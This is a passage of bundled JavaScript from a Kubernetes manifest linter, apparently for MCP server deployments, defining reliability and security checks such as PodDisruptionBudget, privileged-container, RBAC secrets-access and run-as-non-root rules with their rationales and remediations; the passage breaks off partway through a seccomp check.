Object.defineProperty(exports, "__esModule", ({ value: true }));
const kustomize_components_1 = __webpack_require__(70544);
const label_selector_1 = __webpack_require__(83758);
const objects_1 = __webpack_require__(35704);
const pod_template_index_1 = __webpack_require__(93447);
const replicas_1 = __webpack_require__(93767);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
/** `0`, `"0"`, `"0%"` -> 0; `"100%"` -> 100 (percent); numbers stay numbers. */
function parseBudget(v) {
    if (typeof v === 'number')
        return { value: v, percent: false };
    if (typeof v !== 'string')
        return undefined;
    const m = /^\s*(\d+)\s*(%?)\s*$/.exec(v);
    return m ? { value: Number(m[1]), percent: m[2] === '%' } : undefined;
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/pdb-blocks-eviction',
    target: 'kubernetes-set',
    meta: {
        title: 'PodDisruptionBudget allows no disruption',
        category: 'reliability',
        severity: 'warning',
        rationale: 'A budget with `maxUnavailable: 0`, `minAvailable: 100%`, or `minAvailable` equal to the replica count never allows an eviction: node drains hang, cluster upgrades stall and autoscalers cannot remove nodes. kube-linter (pdb-max-unavailable, pdb-min-available) and Polaris (pdbDisruptionsIsZero) flag it. A budget a Kustomize Component adds is compared with replicas only in the overlays built from it.',
        remediation: 'Use `maxUnavailable: 1` (or a percentage that rounds to at least one pod), or a minAvailable below the replica count.',
        messages: {
            zeroMaxUnavailable: '{{object}} sets maxUnavailable: {{value}}, so no pod can ever be evicted',
            fullMinAvailable: '{{object}} sets minAvailable: {{value}}, so no pod can ever be evicted',
            minAvailableReplicas: '{{object}} requires minAvailable {{value}} but {{workload}} runs only {{count}} replicas, so no pod can ever be evicted',
        },
    },
    check(ctx) {
        const index = new pod_template_index_1.PodTemplateIndex(ctx.objects);
        // A budget a Kustomize Component adds meets the workloads of the overlays it is built into, whose
        // replicas its own patches may raise: not the base's as written (the built overlays are checked).
        const fromComponents = (0, kustomize_components_1.componentResourceFiles)(ctx.objects);
        for (const pdb of ctx.objects) {
            if (pdb.kind !== 'PodDisruptionBudget')
                continue;
            const spec = pdb.value.spec;
            if (!spec || typeof spec !== 'object')
                continue;
            const label = (0, objects_1.objectLabel)(pdb);
            const max = parseBudget(spec.maxUnavailable);
            if (max && max.value === 0) {
                ctx.report({
                    messageId: 'zeroMaxUnavailable',
                    data: { object: label, value: String(spec.maxUnavailable) },
                    at: (0, yaml_tree_1.locate)(pdb.root, ['spec', 'maxUnavailable'], pdb.loc),
                });
                continue;
            }
            const min = parseBudget(spec.minAvailable);
            if (!min)
                continue;
            const at = (0, yaml_tree_1.locate)(pdb.root, ['spec', 'minAvailable'], pdb.loc);
            if (min.percent) {
                if (min.value >= 100)
                    ctx.report({ messageId: 'fullMinAvailable', data: { object: label, value: String(spec.minAvailable) }, at });
                continue;
            }
            if (fromComponents.has(pdb.file))
                continue;
            for (const { workload: obj, labels } of index.near(pdb)) {
                if (!(0, label_selector_1.matchesLabelSelector)(spec.selector, labels))
                    continue;
                const r = (0, replicas_1.replicasOf)(obj, ctx.objects);
                if (!r || min.value < r.count)
                    continue;
                ctx.report({ messageId: 'minAvailableReplicas', data: { object: label, value: min.value, workload: (0, objects_1.objectLabel)(obj), count: r.count }, at });
                break;
            }
        }
    },
});


/***/ }),

/***/ 31461:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const label_selector_1 = __webpack_require__(83758);
const objects_1 = __webpack_require__(35704);
const replicas_1 = __webpack_require__(93767);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const CHECKED_KINDS = new Set(['Deployment', 'StatefulSet']);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/pod-disruption-budget',
    target: 'kubernetes-set',
    meta: {
        title: 'Replicated production workload has no PodDisruptionBudget',
        category: 'reliability',
        severity: 'warning',
        productionOnly: true,
        rationale: 'Without a PodDisruptionBudget a node drain or cluster upgrade may evict every replica of the MCP server at once, so running several replicas does not protect it from voluntary disruptions. Polaris (missingPodDisruptionBudget) flags it.',
        remediation: 'Add a `policy/v1` PodDisruptionBudget whose selector matches the pod template labels, e.g. `spec: { maxUnavailable: 1, selector: { matchLabels: { app.kubernetes.io/name: mcp } } }`.',
        messages: {
            missing: '{{object}} runs {{count}} replicas but no PodDisruptionBudget selects its pods',
        },
    },
    check(ctx) {
        const pdbs = ctx.objects.filter((o) => o.kind === 'PodDisruptionBudget');
        for (const obj of ctx.objects) {
            if (!CHECKED_KINDS.has(obj.kind) || !ctx.isProduction(obj))
                continue;
            const r = (0, replicas_1.replicasOf)(obj, ctx.objects);
            if (!r || r.count < 2)
                continue;
            const labels = (0, objects_1.podLabelsOf)(obj);
            if (pdbs.some((pdb) => (0, label_selector_1.sameNamespace)(pdb, obj) && (0, label_selector_1.matchesLabelSelector)(pdb.value.spec?.selector, labels)))
                continue;
            ctx.report({ messageId: 'missing', data: { object: (0, objects_1.objectLabel)(obj), count: r.count }, at: (0, yaml_tree_1.locate)(obj.root, ['metadata', 'name'], obj.loc) });
        }
    },
});


/***/ }),

/***/ 13211:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const placeholders_1 = __webpack_require__(87328);
const pod_security_1 = __webpack_require__(95002);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/privilege-escalation',
    target: 'kubernetes-object',
    meta: {
        title: 'Container allows privilege escalation',
        category: 'security',
        severity: 'warning',
        rationale: 'Unless `allowPrivilegeEscalation` is false, a process in the container can gain more privileges than its parent through setuid binaries or file capabilities (no_new_privs is not set). The "restricted" Pod Security Standard requires false; Polaris (privilegeEscalationAllowed) and kube-linter (privilege-escalation-container) flag it.',
        remediation: 'Set `securityContext.allowPrivilegeEscalation: false` on every container.',
        messages: {
            unset: '{{object}}: container "{{container}}" does not set securityContext.allowPrivilegeEscalation: false',
            allowed: '{{object}}: container "{{container}}" sets allowPrivilegeEscalation: true',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            if (!(0, pod_security_1.isRunnable)(c))
                continue;
            const value = (0, pod_security_1.containerSecurityContext)(c).allowPrivilegeEscalation;
            // A Flux `${VAR}` placeholder is only known after substitution.
            if (value === false || (0, placeholders_1.hasPlaceholder)(value))
                continue;
            const data = { object: (0, objects_1.objectLabel)(ctx.object), container: c.name };
            if (value === undefined || value === null)
                ctx.report({ messageId: 'unset', data, at: c.path });
            else
                ctx.report({ messageId: 'allowed', data, at: [...c.path, 'securityContext', 'allowPrivilegeEscalation'] });
        }
    },
});


/***/ }),

/***/ 7031:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const helm_values_settings_1 = __webpack_require__(3439);
const pod_security_1 = __webpack_require__(95002);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/privileged-container',
    target: 'kubernetes-object',
    meta: {
        title: 'Container runs privileged',
        category: 'security',
        severity: 'error',
        rationale: 'A privileged container has every capability and access to all host devices: escaping it is trivial, and a compromised MCP server becomes a compromised node. kube-linter (privileged-container) and Polaris (runAsPrivileged) flag it.',
        remediation: 'Remove `securityContext.privileged: true` (in a HelmRelease or Argo CD Application, from the Helm values); grant only the specific capability the container needs, if any.',
        messages: {
            privileged: '{{object}}: container "{{container}}" runs privileged',
            helmValues: '{{object}}: Helm values {{field}} set {{setting}}: true, so a container of the chart runs privileged',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            if ((0, pod_security_1.containerSecurityContext)(c).privileged !== true)
                continue;
            ctx.report({ messageId: 'privileged', data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name }, at: [...c.path, 'securityContext', 'privileged'] });
        }
        for (const ref of (0, helm_values_settings_1.helmValuesSettingsOf)(ctx.object, 'privileged')) {
            ctx.report({ messageId: 'helmValues', data: { object: (0, objects_1.objectLabel)(ctx.object), field: ref.field, setting: ref.name }, at: ref.at });
        }
    },
});


/***/ }),

/***/ 33474:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
const PROBES = ['livenessProbe', 'readinessProbe', 'startupProbe'];
const HANDLERS = ['httpGet', 'tcpSocket', 'grpc'];
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/probe-port',
    target: 'kubernetes-object',
    meta: {
        title: 'Probe targets a port the pod does not declare',
        category: 'reliability',
        severity: 'warning',
        rationale: 'A probe on a named port that the container does not declare can never run: the kubelet fails it, so the pod is never ready or is restarted forever. A probe on a number that no container of the pod declares, when the container does declare its ports, is usually a typo or a port that moved (the server listens on 8080, the probe knocks on 8000), and the probe then fails or checks the wrong process. kube-linter (liveness-port, readiness-port, startup-port) flags both. The probes of sidecars a service mesh injects (istio-proxy, linkerd-proxy) belong to the mesh and are not checked.',
        remediation: 'Point the probe at a port the container lists under `ports` (by its `name`, so both change together), or add the missing `containerPort`.',
        messages: {
            unknownName: '{{object}}: container "{{container}}" {{probe}} uses port "{{port}}", which the container does not declare (ports: {{declared}})',
            undeclaredNumber: '{{object}}: container "{{container}}" {{probe}} uses port {{port}}, which no container of the pod declares (ports: {{declared}})',
        },
    },
    check(ctx) {
        const containers = (0, objects_1.containersOf)(ctx.object);
        const podPorts = new Set();
        for (const c of containers)
            for (const p of declaredPorts(c.value))
                if (p.number !== undefined)
                    podPorts.add(p.number);
        for (const c of (0, objects_1.probedContainersOf)(ctx.object)) {
            const own = declaredPorts(c.value);
            const declared = own.map((p) => (p.name ? `${p.name}=${p.number ?? '?'}` : String(p.number ?? '?'))).join(', ') || 'none';
            for (const probe of PROBES) {
                const spec = c.value[probe];
                if (!spec || typeof spec !== 'object')
                    continue;
                for (const handler of HANDLERS) {
                    const h = spec[handler];
                    if (!h || typeof h !== 'object')
                        continue;
                    const port = h.port;
                    const at = [...c.path, probe, handler, 'port'];
                    const data = { object: (0, objects_1.objectLabel)(ctx.object), container: c.name, probe, declared };
                    if (typeof port === 'string' && !/^\d+$/.test(port)) {
                        // A `${VAR}`/`{{ }}` placeholder is filled in later; only a real name can be judged.
                        if (!/^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/.test(port))
                            continue;
                        if (!own.some((p) => p.name === port))
                            ctx.report({ messageId: 'unknownName', data: { ...data, port }, at });
                        continue;
                    }
                    const number = typeof port === 'number' ? port : typeof port === 'string' ? Number(port) : NaN;
                    // A container without `ports` may listen anywhere: declaring ports is optional.
                    if (!Number.isInteger(number) || !own.length || podPorts.has(number))
                        continue;
                    ctx.report({ messageId: 'undeclaredNumber', data: { ...data, port: number }, at });
                }
            }
        }
    },
});
// eslint-disable-next-line @typescript-eslint/no-explicit-any
function declaredPorts(container) {
    const ports = container.ports;
    if (!Array.isArray(ports))
        return [];
    return ports.flatMap((p) => {
        if (!p || typeof p !== 'object')
            return [];
        const { name, containerPort } = p;
        const number = typeof containerPort === 'number' ? containerPort : typeof containerPort === 'string' && /^\d+$/.test(containerPort) ? Number(containerPort) : undefined;
        return [{ name: typeof name === 'string' ? name : undefined, number }];
    });
}


/***/ }),

/***/ 10770:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const rbac_rules_1 = __webpack_require__(93376);
const types_1 = __webpack_require__(15200);
const SUBRESOURCES = ['pods/exec', 'pods/attach'];
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/rbac-pod-exec',
    target: 'kubernetes-object',
    meta: {
        title: 'Role can exec into pods',
        category: 'security',
        severity: 'warning',
        rationale: 'Exec and attach run commands inside other pods, with their service accounts, Secrets and network access: a workload holding this permission can move laterally to everything in scope. Polaris (clusterrolePodExecAttach, rolePodExecAttach) flags it.',
        remediation: 'Drop pods/exec and pods/attach from application roles; grant them only to humans through a separate, audited role.',
        messages: {
            exec: '{{object}}: rule {{rule}} grants access to {{subresources}}',
        },
    },
    check(ctx) {
        for (const rule of (0, rbac_rules_1.rulesOf)(ctx.object)) {
            // Wildcard resources are reported by kubernetes/rbac-wildcard.
            if (rule.resources.includes('*'))
                continue;
            const granted = SUBRESOURCES.filter((sub) => (0, rbac_rules_1.grants)(rule, sub, 'create') || (0, rbac_rules_1.grants)(rule, sub, 'get'));
            if (!granted.length)
                continue;
            ctx.report({
                messageId: 'exec',
                data: { object: (0, objects_1.objectLabel)(ctx.object), rule: `#${rule.index + 1}`, subresources: granted.join(' and ') },
                at: rule.path,
            });
        }
    },
});


/***/ }),

/***/ 46647:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const rbac_rules_1 = __webpack_require__(93376);
const types_1 = __webpack_require__(15200);
const READ_VERBS = ['get', 'list', 'watch'];
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/rbac-secrets-access',
    target: 'kubernetes-object',
    meta: {
        title: 'Role can read Secrets',
        category: 'security',
        severity: 'warning',
        rationale: "Reading Secrets yields the credentials of every workload in scope (database passwords, API tokens, service account tokens), so it is effectively the union of their permissions. `list` and `watch` return every Secret's contents, not just names. kube-linter (access-to-secrets) flags it.",
        remediation: 'Mount the Secrets the pod needs instead of reading them through the API, or restrict the rule with `resourceNames: [the-one-secret]` and `verbs: [get]`.',
        messages: {
            reads: '{{object}}: rule {{rule}} grants {{verbs}} on secrets{{scope}}',
        },
    },
    check(ctx) {
        for (const rule of (0, rbac_rules_1.rulesOf)(ctx.object)) {
            const verbs = READ_VERBS.filter((v) => (0, rbac_rules_1.grants)(rule, 'secrets', v));
            if (!verbs.length)
                continue;
            // `get` on named Secrets is the least-privilege way to read one; list/watch ignore resourceNames for collections.
            if (rule.resourceNames.length && verbs.every((v) => v === 'get'))
                continue;
            const scope = ctx.object.kind === 'ClusterRole' ? ' in every namespace it is bound to' : '';
            ctx.report({ messageId: 'reads', data: { object: (0, objects_1.objectLabel)(ctx.object), rule: `#${rule.index + 1}`, verbs: verbs.join(', '), scope }, at: rule.path });
        }
    },
});


/***/ }),

/***/ 83671:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const rbac_rules_1 = __webpack_require__(93376);
const types_1 = __webpack_require__(15200);
const FIELDS = ['apiGroups', 'resources', 'verbs'];
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/rbac-wildcard',
    target: 'kubernetes-object',
    meta: {
        title: 'RBAC rule uses a wildcard',
        category: 'security',
        severity: 'warning',
        rationale: 'A `*` in verbs, resources or apiGroups grants every current and future permission of that kind, including escalate, impersonate and access to Secrets and CRDs added later. A compromised MCP server with such a role can take over its namespace or the cluster. kube-linter (wildcard-in-rules) flags it.',
        remediation: 'List the exact apiGroups, resources and verbs the workload uses (e.g. `verbs: [get, list, watch]` on `resources: [configmaps]`).',
        messages: {
            wildcard: '{{object}}: rule {{rule}} has "*" in {{field}}',
        },
    },
    check(ctx) {
        for (const rule of (0, rbac_rules_1.rulesOf)(ctx.object)) {
            for (const field of FIELDS) {
                const list = rule[field];
                const i = list.indexOf('*');
                if (i < 0)
                    continue;
                const raw = ctx.object.value.rules[rule.index]?.[field];
                const at = Array.isArray(raw) ? [...rule.path, field, raw.indexOf('*')] : [...rule.path, field];
                ctx.report({ messageId: 'wildcard', data: { object: (0, objects_1.objectLabel)(ctx.object), rule: `#${rule.index + 1}`, field }, at });
            }
        }
    },
});


/***/ }),

/***/ 17082:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const placeholders_1 = __webpack_require__(87328);
const pod_security_1 = __webpack_require__(95002);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/read-only-root-filesystem',
    target: 'kubernetes-object',
    meta: {
        title: 'Container root filesystem is writable',
        category: 'security',
        severity: 'warning',
        rationale: 'A writable root filesystem lets an attacker who gets code execution drop binaries, tamper with the application or persist across requests; it also hides state that is lost on restart. kube-linter (no-read-only-root-fs) and Polaris (notReadOnlyRootFilesystem) flag it.',
        remediation: 'Set `securityContext.readOnlyRootFilesystem: true` on the container and mount an `emptyDir` volume at the paths the server writes to (e.g. /tmp, caches).',
        messages: {
            writable: '{{object}}: container "{{container}}" has a writable root filesystem: set securityContext.readOnlyRootFilesystem: true',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            if (!(0, pod_security_1.isRunnable)(c))
                continue;
            const sc = (0, pod_security_1.containerSecurityContext)(c);
            // A Flux `${VAR}` placeholder is only known after substitution.
            if (sc.readOnlyRootFilesystem === true || (0, placeholders_1.hasPlaceholder)(sc.readOnlyRootFilesystem))
                continue;
            const at = sc.readOnlyRootFilesystem !== undefined ? [...c.path, 'securityContext', 'readOnlyRootFilesystem'] : c.path;
            ctx.report({ messageId: 'writable', data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name }, at });
        }
    },
});


/***/ }),

/***/ 90749:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const workload_kinds_1 = __webpack_require__(75581);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/readiness-probe',
    target: 'kubernetes-object',
    meta: {
        title: 'Container has no readiness probe',
        category: 'reliability',
        severity: 'warning',
        rationale: 'Without a readiness probe a pod receives traffic as soon as its process starts, before the MCP server has loaded its tools or connected to its backends, and a rolling update can replace healthy pods with ones that are not serving yet. Polaris (readinessProbeMissing) and kube-linter (no-readiness-probe) flag it. The probes of sidecars a service mesh injects (istio-proxy, linkerd-proxy) belong to the mesh and are not checked.',
        remediation: 'Add a `readinessProbe` that succeeds only when the server can answer requests, e.g. `httpGet: { path: /ready, port: http }` with `periodSeconds: 5`.',
        messages: {
            missing: '{{object}}: container "{{container}}" has no readinessProbe',
        },
    },
    check(ctx) {
        if (!workload_kinds_1.LONG_RUNNING_KINDS.has(ctx.object.kind))
            return;
        for (const c of (0, objects_1.probedContainersOf)(ctx.object)) {
            if (c.kind !== 'container')
                continue;
            if (c.value.readinessProbe && typeof c.value.readinessProbe === 'object')
                continue;
            ctx.report({ messageId: 'missing', data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name }, at: c.path });
        }
    },
});


/***/ }),

/***/ 44145:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const replicas_1 = __webpack_require__(93767);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const CHECKED_KINDS = new Set(['Deployment', 'StatefulSet']);
/** The messages by where the count comes from: production named, production only assumed. */
const MESSAGES = {
    autoscaler: ['autoscaler', 'autoscalerUnknown'],
    default: ['defaulted', 'defaultedUnknown'],
    replicas: ['single', 'singleUnknown'],
};
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/replicas',
    target: 'kubernetes-set',
    meta: {
        title: 'Production workload runs a single replica',
        category: 'reliability',
        severity: 'warning',
        productionOnly: true,
        rationale: 'With one replica every rollout, node drain, eviction or crash is an outage of the MCP server, and a PodDisruptionBudget cannot protect it. Polaris (deploymentMissingReplicas) flags it. An HorizontalPodAutoscaler that targets the workload counts with its minReplicas. Where no environment names the workload and it is no MCP server, production is only assumed, and singletons by design (leader-elected controllers, shards, exporters) are common: the finding is info there.',
        remediation: 'Set `spec.replicas: 2` or more (or `minReplicas: 2` on its HorizontalPodAutoscaler) and spread the replicas across nodes with topologySpreadConstraints.',
        messages: {
            single: '{{object}} runs {{count}} replica(s) in production',
            defaulted: '{{object}} does not set spec.replicas, so it runs 1 replica in production',
            autoscaler: '{{object}} is scaled by {{hpa}} down to minReplicas {{count}} in production',
            singleUnknown: '{{object}} runs {{count}} replica(s): if it serves production, every rollout or node drain is an outage (no environment names it)',
            defaultedUnknown: '{{object}} does not set spec.replicas, so it runs 1 replica: if it serves production, every rollout or node drain is an outage (no environment names it)',
            autoscalerUnknown: '{{object}} is scaled by {{hpa}} down to minReplicas {{count}}: if it serves production, every rollout or node drain is an outage (no environment names it)',
        },
    },
    check(ctx) {
        for (const obj of ctx.objects) {
            if (!CHECKED_KINDS.has(obj.kind) || !ctx.isProduction(obj))
                continue;
            const r = (0, replicas_1.replicasOf)(obj, ctx.objects);
            if (!r || r.count >= 2)
                continue;
            const data = { object: (0, objects_1.objectLabel)(obj), count: r.count, hpa: (0, objects_1.objectLabel)(r.object) };
            const at = (0, yaml_tree_1.locate)(r.object.root, r.path, r.object.loc);
            // Production assumed, not named (no environment, no MCP server): singletons by design
            // (leader-elected controllers, shards, exporters) are common there.
            const known = ctx.isKnownProduction(obj);
            const [messageId, unknownId] = MESSAGES[r.source];
            ctx.report({ messageId: known ? messageId : unknownId, data, at, atInfo: !known });
        }
    },
});


/***/ }),

/***/ 13797:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const pod_security_1 = __webpack_require__(95002);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/resource-limits',
    target: 'kubernetes-object',
    meta: {
        title: 'Container has no CPU or memory limit',
        category: 'resources',
        severity: 'warning',
        rationale: 'Without a memory limit a leaking MCP server (large tool outputs, unbounded caches) grows until the node runs out of memory and the kernel kills neighbours; without a CPU limit one busy tool call starves the other pods on the node. Polaris (cpuLimitsMissing, memoryLimitsMissing) and kube-linter (unset-cpu-requirements, unset-memory-requirements) flag it.',
        remediation: 'Set `resources.limits.memory` (and `resources.limits.cpu`), e.g. `limits: { cpu: "1", memory: 512Mi }`, sized from load tests.',
        messages: {
            missing: '{{object}}: container "{{container}}" has no {{resources}} limit',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            if (!(0, pod_security_1.isRunnable)(c))
                continue;
            const resources = c.value.resources;
            const raw = resources && typeof resources === 'object' ? resources.limits : undefined;
            const limits = raw && typeof raw === 'object' && !Array.isArray(raw) ? raw : {};
            const missing = ['cpu', 'memory'].filter((r) => limits[r] === undefined || limits[r] === null || limits[r] === '');
            if (!missing.length)
                continue;
            const at = raw !== undefined ? [...c.path, 'resources', 'limits'] : resources !== undefined ? [...c.path, 'resources'] : c.path;
            ctx.report({ messageId: 'missing', data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name, resources: missing.join(' and ') }, at });
        }
    },
});


/***/ }),

/***/ 41707:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const pod_security_1 = __webpack_require__(95002);
const types_1 = __webpack_require__(15200);
function resourceMap(v, key) {
    const r = v && typeof v === 'object' ? v[key] : undefined;
    return r && typeof r === 'object' && !Array.isArray(r) ? r : {};
}
const isSet = (v) => v !== undefined && v !== null && v !== '';
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/resource-requests',
    target: 'kubernetes-object',
    meta: {
        title: 'Container has no CPU or memory request',
        category: 'resources',
        severity: 'warning',
        rationale: 'The scheduler places pods by their requests. Without them an MCP server lands on a full node, gets the BestEffort QoS class and is the first to be evicted under memory pressure. kube-linter (unset-cpu-requirements, unset-memory-requirements) and Polaris (cpuRequestsMissing, memoryRequestsMissing) flag it.',
        remediation: 'Set `resources.requests.cpu` and `resources.requests.memory` from observed usage, e.g. `requests: { cpu: 100m, memory: 256Mi }`.',
        messages: {
            missing: '{{object}}: container "{{container}}" has no {{resources}} request',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            if (!(0, pod_security_1.isRunnable)(c))
                continue;
            const requests = resourceMap(c.value.resources, 'requests');
            // A limit without a request makes the request equal to the limit.
            const limits = resourceMap(c.value.resources, 'limits');
            const missing = ['cpu', 'memory'].filter((r) => !isSet(requests[r]) && !isSet(limits[r]));
            if (!missing.length)
                continue;
            const at = c.value.resources?.requests !== undefined ? [...c.path, 'resources', 'requests'] : c.value.resources !== undefined ? [...c.path, 'resources'] : c.path;
            ctx.report({ messageId: 'missing', data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name, resources: missing.join(' and ') }, at });
        }
    },
});


/***/ }),

/***/ 45355:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const placeholders_1 = __webpack_require__(87328);
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/run-as-non-root',
    target: 'kubernetes-object',
    meta: {
        title: 'Container may run as root',
        category: 'security',
        severity: 'error',
        rationale: 'A process running as UID 0 that escapes its container is root on the node. kube-linter (run-as-non-root) and Polaris (runAsRootAllowed) flag it by default.',
        remediation: 'Set `securityContext.runAsNonRoot: true` (and a non-zero `runAsUser`) on the pod or on every container.',
        messages: {
            mayRunAsRoot: 'container "{{container}}" may run as root: set securityContext.runAsNonRoot: true',
            runsAsRoot: 'container "{{container}}" runs as UID 0',
        },
    },
    check(ctx) {
        const specPath = (0, objects_1.podSpecPath)(ctx.object);
        if (!specPath)
            return;
        const podSc = (ctx.object.value && getIn(ctx.object.value, [...specPath, 'securityContext']));
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            if (c.kind === 'ephemeralContainer')
                continue;
            const sc = (c.value.securityContext ?? {});
            const runAsUser = sc.runAsUser ?? podSc?.runAsUser;
            if (runAsUser === 0) {
                ctx.report({
                    messageId: 'runsAsRoot',
                    data: { container: c.name },
                    at: sc.runAsUser === 0 ? [...c.path, 'securityContext', 'runAsUser'] : [...specPath, 'securityContext', 'runAsUser'],
                });
                continue;
            }
            const nonRoot = sc.runAsNonRoot ?? podSc?.runAsNonRoot;
            if (nonRoot === true || (typeof runAsUser === 'number' && runAsUser > 0))
                continue;
            // A Flux `${UID}` placeholder is only known after substitution.
            if ((0, placeholders_1.hasPlaceholder)(runAsUser) || (0, placeholders_1.hasPlaceholder)(nonRoot))
                continue;
            ctx.report({
                messageId: 'mayRunAsRoot',
                data: { container: c.name },
                at: sc.runAsNonRoot === false ? [...c.path, 'securityContext', 'runAsNonRoot'] : c.path,
            });
        }
    },
});
function getIn(v, path) {
    let cur = v;
    for (const p of path)
        cur = cur && typeof cur === 'object' ? cur[p] : undefined;
    return cur;
}


/***/ }),

/***/ 77923:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const schema_1 = __webpack_require__(80757);
const types_1 = __webpack_require__(15200);
/** More problems than this in one object are summarised; the first ones are usually the cause. */
const MAX_PROBLEMS_PER_OBJECT = 20;
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/schema',
    target: 'kubernetes-object',
    meta: {
        title: 'Manifest does not match the Kubernetes API schema',
        category: 'correctness',
        severity: 'error',
        rationale: 'The API server rejects an object whose fields have the wrong type or miss required fields, so the deployment fails halfway through `kubectl apply` or a GitOps sync. Catching it in the pull request is cheaper than a failed rollout (kubeconform and kubeval do the same).',
        remediation: 'Fix the field named in the message: quote or unquote values to get the right type (`replicas: 3`, not `"three"`), add required fields, and compare with `kubectl explain <kind>.<field>`.',
        messages: {
            invalid: '{{object}}: {{detail}}',
            missingName: '{{object}}: metadata.name is required (or metadata.generateName)',
            truncated: '{{object}}: {{count}} more schema problems not shown',
        },
    },
    check(ctx) {
        const obj = ctx.object;
        const label = `${obj.kind} "${obj.name}"`;
        const meta = obj.value.metadata;
        // Every object the API server stores needs a name, custom resources too; a name of the wrong type is a schema error below.
        const given = (v) => v !== undefined && v !== null && v !== '';
        const hasName = meta && typeof meta === 'object' && (given(meta.name) || given(meta.generateName));
        if (!hasName && !(0, schema_1.isClientSideConfig)(obj.apiVersion, obj.kind))
            ctx.report({ messageId: 'missingName', data: { object: label }, at: ['metadata'] });
        const errors = (0, schema_1.validateBuiltIn)(ctx.builtInModels, obj.apiVersion, obj.kind, (0, objects_1.withoutSopsMetadata)(obj.value));
        if (!errors)
            return;
        const problems = (0, schema_1.summarizeSchemaErrors)(obj.root, errors);
        for (const p of problems.slice(0, MAX_PROBLEMS_PER_OBJECT)) {
            ctx.report({ messageId: 'invalid', data: { object: label, detail: p.message }, at: p.path });
        }
        if (problems.length > MAX_PROBLEMS_PER_OBJECT) {
            ctx.report({ messageId: 'truncated', data: { object: label, count: problems.length - MAX_PROBLEMS_PER_OBJECT }, at: [] });
        }
    },
});


/***/ }),

/***/ 43044:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const pod_security_1 = __webpack_require__(95002);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/seccomp-profile',
    target: 'kubernetes-object',
    meta: {
        title: 'Container runs without a seccomp profile',
        category: 'security',
        severity: 'warning',
        rationale: 'Without a seccomp profile (Kubernetes defaults to Unconfined) every system call is reachable, including the ones most kernel exploits use. The "restricted" Pod Security Standard requires RuntimeDefault or Localhost; Polaris (linuxHardening) flags it.',
